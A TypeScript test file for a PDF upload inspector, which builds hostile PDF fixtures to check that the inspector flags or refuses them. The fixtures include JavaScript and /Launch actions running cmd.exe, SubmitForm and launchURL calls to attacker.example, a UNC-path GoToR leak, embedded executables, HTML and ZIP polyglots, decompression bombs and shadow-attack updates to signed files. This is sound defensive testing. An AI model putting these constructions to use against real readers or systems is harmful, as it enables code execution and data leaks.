import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { inspectPdf } from '@/lib/pdf/inspect/inspect-pdf';
import { DEFAULT_PDF_LIMITS, type PdfInspection } from '@/lib/pdf/inspect/types';
import { PARSE_LIMITS } from '@/lib/pdf/parse/limits';
import { tinyPdf } from '../../support/fixtures';
import { issueSigner, makeRoot, makeUnsignedPdf, signWithTestPki } from '../../support/test-pki';
import { appendUpdate, buildPdf, flate, onePage, stream, zipArchive } from '../../support/hostile-pdf';

const kinds = (r: PdfInspection) => (r.sound ? r.activeContent.map((c) => c.kind).sort() : `defect:${r.defect}`);
const defect = (r: PdfInspection) => (r.sound ? 'sound' : r.defect);
const concat = (...parts: (Uint8Array | string)[]) => new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p)))));

describe('inspectPdf: sound files', () => {
  it('accepts a clean pdf-lib file, with and without object streams, and a hand-written one', async () => {
    for (const bytes of [await tinyPdf(), await makeUnsignedPdf(), buildPdf(onePage())]) {
      const r = inspectPdf(bytes);
      expect(r).toMatchObject({ sound: true, activeContent: [] });
      expect(r.elapsedMs).toBeLessThan(DEFAULT_PDF_LIMITS.timeBudgetMs);
    }
  });

  it('accepts a genuinely signed naskah, also after a second signature in an incremental update', async () => {
    const root = await makeRoot();
    const signer = await issueSigner(root, 'CN=Kepala Dinas', '3201010101010001');
    const once = await signWithTestPki(await makeUnsignedPdf('Nota dinas'), signer, [root.cert]);
    const twice = await signWithTestPki(once, signer, [root.cert]);
    expect(inspectPdf(once)).toMatchObject({ sound: true, activeContent: [] });
    expect(inspectPdf(twice)).toMatchObject({ sound: true, activeContent: [] });
  });

  it('takes an /OpenAction that only opens a page (what office suites write) as no active content', () => {
    expect(kinds(inspectPdf(buildPdf(onePage({ catalog: '/OpenAction [3 0 R /FitH 842]' }))))).toEqual([]);
    expect(kinds(inspectPdf(buildPdf(onePage({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }))))).toEqual([]);
    expect(kinds(inspectPdf(buildPdf(onePage({ catalog: '/OpenAction 5 0 R', extra: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }))))).toEqual([]);
  });
});

describe('inspectPdf: active content', () => {
  it.each([
    // Didier Stevens, "Make your own PDF file with JavaScript" (2008): script on open.
    ['OpenAction JavaScript', onePage({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }), ['javascript', 'open-action']],
    ['OpenAction as a reference to a JavaScript action', onePage({ catalog: '/OpenAction 5 0 R', extra: ['<< /S /JavaScript /JS (this.print\\(\\)) >>'] }), ['javascript', 'open-action']],
    ['/AA on a page (page-open trigger)', onePage({ page: '/AA << /O << /S /JavaScript /JS (app.alert\\(2\\)) >> >>' }), ['additional-actions', 'javascript']],
    [
      'a document-level /Names /JavaScript tree with the script in a compressed stream',
      onePage({ catalog: '/Names << /JavaScript 5 0 R >>', extra: ['<< /Names [(init) 6 0 R] >>', '<< /S /JavaScript /JS 7 0 R >>', flate('', 'app.launchURL("http://attacker.example/")')] }),
      ['javascript'],
    ],
    // Didier Stevens, "Escape from PDF" (2010): /Launch runs a program.
    ['Launch on open', onePage({ catalog: '/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>' }), ['launch', 'open-action']],
    // "PDF insecurity" (Müller et al., PDFex 2019 / "Processing dangerous paths" 2021): exfiltration and NTLM leaks.
    ['SubmitForm on open', onePage({ catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://attacker.example/) >> /Flags 4 >>' }), ['open-action', 'submit-form']],
    ['ImportData', onePage({ page: '/Annots [5 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>'] }), ['import-data']],
    ['GoToR to a UNC path', onePage({ page: '/Annots [5 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >> >>'] }), ['remote-goto']],
    [
      'EmbeddedFiles name tree',
      onePage({ catalog: '/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >>', extra: ['<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>', stream('/Type /EmbeddedFile', 'MZ\x90\x00')] }),
      ['embedded-file'],
    ],
    ['FileAttachment annotation', onePage({ page: '/Annots [5 0 R]', extra: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.js) >>'] }), ['file-attachment']],
    ['XFA form', onePage({ catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', extra: [stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')] }), ['xfa']],
    // CVE-2010-1297 and its kin: Flash through RichMedia annotations.
    ['RichMedia annotation', onePage({ page: '/Annots [5 0 R]', extra: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [] >> >> >>'] }), ['rich-media']],
    // Names written with #xx escapes, which readers decode (Stevens, "PDF, let me count the ways").
    ['hex-escaped names', onePage({ catalog: '/OpenAction << /S /J#61va#53cript /#4A#53 (app.alert\\(3\\)) >>' }), ['javascript', 'open-action']],
  ])('%s', (_name, objects, expected) => {
    expect(kinds(inspectPdf(buildPdf(objects)))).toEqual(expected);
  });

  it('finds JavaScript hidden in a compressed object stream', async () => {
    const doc = await PDFDocument.create();
    doc.addPage();
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(4)') })));
    const bytes = await doc.save({ useObjectStreams: true });
    expect(Buffer.from(bytes).includes('JavaScript')).toBe(false);
    expect(kinds(inspectPdf(bytes))).toEqual(['javascript', 'open-action']);
  });

  it('finds JavaScript added to a signed PDF in a later incremental update (a shadow attack)', async () => {
    const root = await makeRoot();
    const signed = await signWithTestPki(await makeUnsignedPdf(), await issueSigner(root, 'CN=Sekda', '3201010101010002'), [root.cert]);
    const catalogNum = Number(/\/Root (\d+) 0 R/.exec(Buffer.from(signed).toString('latin1'))![1]);
    const updated = appendUpdate(signed, [{ num: 90, body: '<< /S /JavaScript /JS (app.alert\\(5\\)) >>' }], catalogNum);
    expect(kinds(inspectPdf(updated))).toEqual(['javascript']);
  });

  it('finds an object the xref points into the middle of a stream whose /Length lies', () => {
    const hidden = '5 0 obj << /S /JavaScript /JS (app.alert\\(6\\)) >> endobj\n';
    const pdf = Buffer.from(buildPdf(onePage({ extra: [`<< /Length 3 >>\nstream\nabc${hidden}endstream`] })));
    // Point object 5's xref entry at the object hidden inside object 5's own stream data.
    const text = pdf.toString('latin1');
    const at = text.indexOf('5 0 obj <<');
    const patched = text.replace(/(xref\n0 6\n(?:.*\n){5})\d{10}/, (_m, head: string) => `${head}${String(at).padStart(10, '0')}`);
    expect(kinds(inspectPdf(Buffer.from(patched, 'latin1')))).toContain('javascript');
  });
});

describe('inspectPdf: polyglots and broken files', () => {
  it('refuses HTML before %PDF- (Albertini\'s PDF/HTML polyglot) and HTML in the head', () => {
    expect(defect(inspectPdf(buildPdf(onePage(), { prefix: '<html><script>alert(document.cookie)</script><!--\n' })))).toBe('polyglot-html');
    expect(defect(inspectPdf(buildPdf(onePage(), { header: '%PDF-1.7\n%<html><body><script>alert(1)</script>\n' })))).toBe('polyglot-html');
  });

  it('refuses junk before %PDF- and a header that is not a PDF version', () => {
    expect(defect(inspectPdf(buildPdf(onePage(), { prefix: '\0\0\0' })))).toBe('not-pdf');
    expect(defect(inspectPdf(buildPdf(onePage(), { header: '%PDF-9.9\n' })))).toBe('not-pdf');
  });

  it('refuses PDF+ZIP: a JAR in front, a ZIP after %%EOF, and a ZIP inside a stream ending the file', () => {
    expect(defect(inspectPdf(buildPdf(onePage(), { prefix: zipArchive('META-INF/MANIFEST.MF', 'Main-Class: X\n') })))).toBe('polyglot-zip');
    expect(defect(inspectPdf(buildPdf(onePage(), { suffix: zipArchive('payload.bin', 'x'.repeat(2000)) })))).toBe('trailing-data');
    // Albertini-style: the archive sits in a stream; its end record lies within the last 64 KiB.
    const place = (base: number) => buildPdf(onePage({ extra: [stream('', zipArchive('x.js', 'alert(1)', base))] }));
    const base = Buffer.from(place(0)).indexOf('PK\x03\x04');
    expect(defect(inspectPdf(place(base)))).toBe('polyglot-zip');
  });

  it('refuses a truncated file and an xref /Prev loop', async () => {
    const whole = await tinyPdf();
    expect(defect(inspectPdf(whole.subarray(0, Math.floor(whole.byteLength / 2))))).toBe('truncated');
    const base = buildPdf(onePage());
    const at = base.byteLength;
    const selfLoop = concat(base, `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 5 /Root 1 0 R /Prev ${at} >>\nstartxref\n${at}\n%%EOF\n`);
    expect(defect(inspectPdf(selfLoop))).toBe('xref-loop');
  });

  it('refuses an encrypted file, a missing catalog and an unreadable object', () => {
    expect(defect(inspectPdf(buildPdf(onePage(), { trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 >>' })))).toBe('encrypted');
    expect(defect(inspectPdf(buildPdf(onePage(), { root: 3 })))).toBe('no-catalog');
    expect(defect(inspectPdf(buildPdf(onePage({ extra: ['<< /S /JavaScript /JS (x) #garbage >>'] }))))).toBe('broken-structure');
  });
});

// Building the hostile inputs takes seconds on a loaded machine; the limits are checked with a time
// budget out of the way (so only the limit under test decides), the budget itself with a short one.
const NO_CLOCK = { ...DEFAULT_PDF_LIMITS, timeBudgetMs: 60_000 };

describe('inspectPdf: limits', { timeout: 60_000 }, () => {
  it('stops a deflate bomb in an object stream at maxStreamBytes, fast', () => {
    // 24 MB of zeros deflate to 24 KB; the inspector stops inflating at 8 MB.
    const bomb = flate('/Type /ObjStm /N 1 /First 4', Buffer.alloc(24 * 1024 * 1024));
    const r = inspectPdf(buildPdf(onePage({ extra: [bomb] })), NO_CLOCK);
    expect(defect(r)).toBe('stream-too-large');
  });

  it('refuses 50,000 objects', () => {
    const many = onePage({ extra: Array.from({ length: 50_000 }, (_, i) => `<< /N ${i} >>`) });
    expect(defect(inspectPdf(buildPdf(many), NO_CLOCK))).toBe('too-many-objects');
  });

  it('stops at the time budget when the limits allow more work than the time does', () => {
    const many = buildPdf(onePage({ extra: Array.from({ length: 50_000 }, (_, i) => `<< /N [${i} ${i} ${i}] >>`) }));
    const r = inspectPdf(many, { ...DEFAULT_PDF_LIMITS, maxObjects: 1_000_000, timeBudgetMs: 1 });
    expect(defect(r)).toBe('timeout');
  });

  it('stops at the time budget when the xref sends it 20,000 times through megabytes looking for "endstream"', () => {
    const objects = Array.from({ length: 20_000 }, (_, i) => `${i + 5} 0 obj << /Length 999999999 >> stream\n`).join('');
    const offsets: number[] = [];
    const head = '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n';
    let at = head.length;
    for (let i = 0; i < 20_000; i++) {
      offsets.push(at);
      at += `${i + 5} 0 obj << /Length 999999999 >> stream\n`.length;
    }
    const padding = 'A'.repeat(8 * 1024 * 1024);
    const body = `${head}${objects}${padding}\nendstream endobj\n`;
    const xref = `xref\n5 20000\n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size 20005 /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
    // Unchecked, this is 20,000 searches through 8 MB (a minute or more); checked, it ends near the budget.
    const r = inspectPdf(Buffer.from(body + xref, 'latin1'), { ...DEFAULT_PDF_LIMITS, timeBudgetMs: 500 });
    expect(defect(r)).toBe('timeout');
    expect(r.elapsedMs).toBeLessThan(5_000);
  });

  it('refuses nesting 10,000 levels deep without exhausting the stack', () => {
    const deep = onePage({ extra: [`${'['.repeat(10_000)}${']'.repeat(10_000)}`] });
    expect(defect(inspectPdf(buildPdf(deep)))).toBe('too-deep');
  });

  it('refuses a file larger than maxBytes and a tail after %%EOF', () => {
    expect(defect(inspectPdf(buildPdf(onePage()), { ...DEFAULT_PDF_LIMITS, maxBytes: 100 }))).toBe('too-large');
    expect(defect(inspectPdf(buildPdf(onePage(), { suffix: 'x'.repeat(4096) })))).toBe('trailing-data');
    expect(defect(inspectPdf(buildPdf(onePage(), { suffix: '\r\n\0\0' })))).toBe('sound');
  });

  it('refuses an object stream in a filter it cannot read', () => {
    const objstm = stream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', '\x80\x0b\x60\x50');
    expect(defect(inspectPdf(buildPdf(onePage({ extra: [objstm] }))))).toBe('unsupported-filter');
  });
});

describe('inspectPdf: an object stream written by hand', () => {
  it('reads objects inside an uncompressed-then-flated object stream', () => {
    const inner = '<< /S /Launch /F (calc.exe) >>';
    const header = '9 0 ';
    const objstm = flate(`/Type /ObjStm /N 1 /First ${header.length}`, header + inner);
    expect(kinds(inspectPdf(buildPdf(onePage({ extra: [objstm] }))))).toEqual(['launch']);
    expect(deflateSync(Buffer.from(inner)).includes('Launch')).toBe(false);
  });
});

/**
 * An incremental update written the way Acrobat and qpdf write compressed ones: the new objects in
 * an object stream, listed only by an xref stream (PNG "Up" predictor rows, as those producers use)
 * whose /Prev leads back to the original table. Nothing of the new objects is visible in the bytes.
 */
function appendCompressedUpdate(pdf: Uint8Array, members: { num: number; body: string }[], root: number, { rowType = 2, predictor = 12 } = {}): Uint8Array {
  const prev = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(Buffer.from(pdf).toString('latin1'))![1]);
  const objstmNum = Math.max(...members.map((m) => m.num)) + 1;
  const xrefNum = objstmNum + 1;
  let header = '';
  let bodies = '';
  for (const m of members) {
    header += `${m.num} ${bodies.length} `;
    bodies += `${m.body} `;
  }
  const objstmAt = pdf.byteLength;
  const objstm = Buffer.concat([Buffer.from(`${objstmNum} 0 obj\n`), flate(`/Type /ObjStm /N ${members.length} /First ${header.length}`, header + bodies), Buffer.from('\nendobj\n')]);
  const xrefAt = objstmAt + objstm.byteLength;
  const rows: [number, number, number][] = [[1, objstmAt, 0], ...members.map((_, i): [number, number, number] => [2, objstmNum, i]), [1, xrefAt, 0]];
  const index = [objstmNum, 1, ...members.flatMap((m) => [m.num, 1]), xrefNum, 1];
  let previous = Buffer.alloc(7);
  const data = Buffer.concat(
    rows.map(([type, a, b]) => {
      const row = Buffer.alloc(7);
      row.writeUInt8(type, 0);
      row.writeUInt32BE(a, 1);
      row.writeUInt16BE(b, 5);
      const up = Buffer.from(row.map((byte, i) => (byte - previous[i]) & 0xff));
      previous = row;
      return Buffer.concat([Buffer.from([rowType]), up]);
    }),
  );
  const dict = `/Type /XRef /Size ${xrefNum + 1} /Root ${root} 0 R /Prev ${prev} /W [1 4 2] /Index [${index.join(' ')}] /DecodeParms << /Predictor ${predictor} /Columns 7 >>`;
  const xref = Buffer.concat([Buffer.from(`${xrefNum} 0 obj\n`), flate(dict, data), Buffer.from('\nendobj\n')]);
  return concat(pdf, objstm, xref, `startxref\n${xrefAt}\n%%EOF\n`);
}

describe('inspectPdf: what the shared parser reads for it', { timeout: 60_000 }, () => {
  const launch = '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>';

  it('finds active content in an object stream that only a later xref stream lists (the catalog too)', () => {
    const catalog = '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 7 0 R] >> >> >>';
    const updated = appendCompressedUpdate(buildPdf(onePage()), [{ num: 1, body: catalog }, { num: 6, body: launch }, { num: 7, body: '<< /S /JavaScript /JS (app.alert\\(7\\)) >>' }], 1);
    expect(Buffer.from(updated).includes('Launch')).toBe(false);
    expect(Buffer.from(updated).includes('JavaScript')).toBe(false);
    expect(kinds(inspectPdf(updated))).toEqual(['javascript', 'launch', 'open-action']);
  });

  it('reads an object stream in ASCII85 over Flate, as a reader does', () => {
    const inner = `9 0 ${launch}`;
    const a85 = (bytes: Buffer) => {
      let out = '';
      for (let i = 0; i < bytes.length; i += 4) {
        const chunk = Buffer.concat([bytes.subarray(i, i + 4), Buffer.alloc(4)]).subarray(0, 4);
        let value = chunk.readUInt32BE(0);
        const digits: string[] = [];
        for (let k = 0; k < 5; k++, value = Math.floor(value / 85)) digits.unshift(String.fromCharCode(33 + (value % 85)));
        out += digits.join('').slice(0, Math.min(4, bytes.length - i) + 1);
      }
      return `${out}~>`;
    };
    const objstm = stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]', a85(deflateSync(Buffer.from(inner))));
    expect(kinds(inspectPdf(buildPdf(onePage({ extra: [objstm] }))))).toEqual(['launch']);
  });

  it('refuses an xref stream that inflates past maxStreamBytes (a bomb where the xref should be)', () => {
    const head = '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n';
    const xref = Buffer.concat([Buffer.from('3 0 obj\n'), flate('/Type /XRef /Size 4 /Root 1 0 R /W [1 4 2]', Buffer.alloc(24 * 1024 * 1024)), Buffer.from('\nendobj\n')]);
    const r = inspectPdf(concat(head, xref, `startxref\n${head.length}\n%%EOF\n`), NO_CLOCK);
    expect(defect(r)).toBe('stream-too-large');
  });

  it('refuses an ASCII85 "z" bomb (4 bytes a character) in an object stream', () => {
    const bomb = stream('/Type /ObjStm /N 1 /First 4 /Filter /ASCII85Decode', `${'z'.repeat(3 * 1024 * 1024)}~>`);
    expect(defect(inspectPdf(buildPdf(onePage({ extra: [bomb] })), NO_CLOCK))).toBe('stream-too-large');
  });

  it('refuses object streams that each stay under maxStreamBytes but together exceed maxTotalInflatedBytes', () => {
    const big = () => flate('/Type /ObjStm /N 1 /First 4', `9 0 null${' '.repeat(7 * 1024 * 1024)}`);
    expect(defect(inspectPdf(buildPdf(onePage({ extra: [big(), big(), big(), big(), big()] })), NO_CLOCK))).toBe('stream-too-large');
    expect(defect(inspectPdf(buildPdf(onePage({ extra: [big(), big()] })), NO_CLOCK))).toBe('sound');
  });

  it('refuses an xref stream in a filter it cannot read as it refuses such an object stream', () => {
    const head = '%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n';
    const xref = Buffer.concat([Buffer.from('3 0 obj\n'), stream('/Type /XRef /Size 4 /Root 1 0 R /W [1 4 2] /Filter /LZWDecode', '\x80\x0b\x60\x50'), Buffer.from('\nendobj\n')]);
    expect(defect(inspectPdf(concat(head, xref, `startxref\n${head.length}\n%%EOF\n`)))).toBe('unsupported-filter');
  });

  it('refuses a hybrid file whose /XRefStm leads back to its own table', () => {
    const base = buildPdf(onePage());
    const table = Number(/startxref\s+(\d+)/.exec(Buffer.from(base).toString('latin1'))![1]);
    expect(defect(inspectPdf(buildPdf(onePage(), { trailer: `/XRefStm ${table}` })))).toBe('xref-loop');
    expect(defect(inspectPdf(buildPdf(onePage(), { trailer: '/XRefStm (0)' })))).toBe('broken-structure');
  });

  it('refuses an xref stream with a PNG row type that does not exist, and one with the TIFF predictor', () => {
    const base = buildPdf(onePage());
    const members = [{ num: 6, body: launch }];
    expect(defect(inspectPdf(appendCompressedUpdate(base, members, 1)))).toBe('sound');
    expect(defect(inspectPdf(appendCompressedUpdate(base, members, 1, { rowType: 7 })))).toBe('broken-structure');
    expect(defect(inspectPdf(appendCompressedUpdate(base, members, 1, { predictor: 2 })))).toBe('unsupported-filter');
  });

  it('refuses an object holding a bare keyword where a value belongs, and stream data after a non-dictionary', () => {
    expect(defect(inspectPdf(buildPdf(onePage({ extra: ['<< /S /JavaScript /JS foo >>'] }))))).toBe('broken-structure');
    expect(defect(inspectPdf(buildPdf(onePage({ extra: ['[1 2]\nstream\n5 0 obj << /S /Launch >> endobj\nendstream'] }))))).toBe('broken-structure');
  });

  it('keeps the upload\'s limits stricter than the verifier\'s', () => {
    for (const key of ['maxObjects', 'maxXrefEntries', 'maxObjectsPerStream', 'maxVisited', 'maxStreamBytes', 'maxTotalInflatedBytes', 'maxNesting', 'timeBudgetMs'] as const) {
      expect(DEFAULT_PDF_LIMITS[key]).toBeLessThanOrEqual(PARSE_LIMITS[key]);
    }
  });
});
